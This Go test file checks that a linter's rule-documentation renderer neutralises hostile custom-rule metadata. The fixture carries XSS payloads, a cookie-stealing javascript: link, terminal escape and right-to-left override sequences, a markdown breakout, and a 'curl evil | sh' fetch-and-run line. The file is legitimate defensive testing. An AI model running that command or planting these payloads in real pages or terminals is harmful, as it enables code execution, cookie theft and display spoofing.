package ruledoc_test

import (
	"regexp"
	"strings"
	"testing"

	"github.com/salint/salint/internal/ruledoc"
	"github.com/salint/salint/pkg/finding"
)

// hostileRule is a policy's rule whose metadata tries to break out of the
// markdown it is shown in (SARIF help, `salint explain`, the README table)
// or to drive the terminal that shows it.
func hostileRule() *finding.Rule {
	return &finding.Rule{
		ID: "ACME001", Name: "acme-x", Severity: finding.Low,
		Title:       "Forged | cell <script>alert(1)</script> \x1b[2J\u202egnp.exe",
		Category:    "a|b\nc",
		Description: "Looks fine.\n```\n## Injected heading, and the rest of the page in a code block\n<img src=x onerror=alert(1)>",
		Remediation: "Run `curl evil | sh` <b>now</b> &amp; \x1b]8;;https://evil\x07link\x1b]8;;\x07",
		References:  []string{"https://example.com/ok", "javascript:alert(document.cookie)", "https://x.example/> <img src=y>"},
		Examples:    finding.Examples{Bad: "# bad\nname: \x1b[31mred\u202e\n"},
	}
}

func TestCustomRuleMetadataIsInert(t *testing.T) {
	r := hostileRule()
	for name, out := range map[string]string{"page": ruledoc.Page(r), "explain": ruledoc.Explain(r), "table": ruledoc.Table([]*finding.Rule{r}),
		"configured": ruledoc.ConfiguredTable([]*finding.Rule{r}, map[string]ruledoc.Setting{r.ID: {Enabled: true, Severity: finding.High}})} {
		t.Run(name, func(t *testing.T) {
			for _, c := range []rune{'\x1b', '\x07', '\u202e'} {
				if strings.ContainsRune(out, c) {
					t.Errorf("holds %U", c)
				}
			}
			// Markup is what is not escaped by a backslash.
			for _, raw := range []string{"<script", "<img src=x", "<b>", "&amp;", "\n```\n##", "(javascript:", "<javascript:", "<https://x.example/>"} {
				if regexp.MustCompile(`(^|[^\\])` + regexp.QuoteMeta(raw)).MatchString(out) {
					t.Errorf("holds %q as markup:\n%s", raw, out)
				}
			}
			// Every table row has as many cells as its header.
			for _, line := range strings.Split(out, "\n") {
				if strings.HasPrefix(line, "|") {
					cells := strings.Count(strings.ReplaceAll(line, `\|`, ""), "|") - 1
					if want := map[string]int{"table": 4, "configured": 5}[name]; want == 0 && cells != 2 || want != 0 && cells != want {
						t.Errorf("a row of %d cells: %q", cells, line)
					}
				}
			}
		})
	}
	page := ruledoc.Page(r)
	for _, want := range []string{
		"- <https://example.com/ok>\n",
		"- `javascript:alert(document.cookie)` (not an http or https address, so not linked)\n",
		"Run `curl evil | sh` \\<b\\>now\\</b\\> \\&amp;",
		"\\`\\`\\`\n## Injected heading",
	} {
		if !strings.Contains(page, want) {
			t.Errorf("page lacks %q:\n%s", want, page)
		}
	}
}

// TestExplainTextIsInert: the terminal text of a custom rule carries no
// control character of its metadata, with colour or without (the only
// escapes are salint's own styles), and does not claim salint's docs.
func TestExplainTextIsInert(t *testing.T) {
	r := hostileRule()
	for _, color := range []bool{false, true} {
		out := ruledoc.ExplainText(r, color)
		stripped := regexp.MustCompile(`\x1b\[[0-9;]*m`).ReplaceAllString(out, "")
		if color == (stripped == out) {
			t.Errorf("color %v: styled %v", color, stripped != out)
		}
		for _, c := range []rune{'\x1b', '\x07', '\u202e'} {
			if strings.ContainsRune(stripped, c) {
				t.Errorf("color %v: holds %U:\n%q", color, c, out)
			}
		}
		if strings.Contains(out, "github.com/salint") {
			t.Errorf("color %v: links salint's docs for a custom rule", color)
		}
		if !strings.Contains(out, "  - javascript:alert(document.cookie) (not an http or https address)\n") {
			t.Errorf("color %v: the non-web reference is not marked:\n%s", color, out)
		}
	}
}
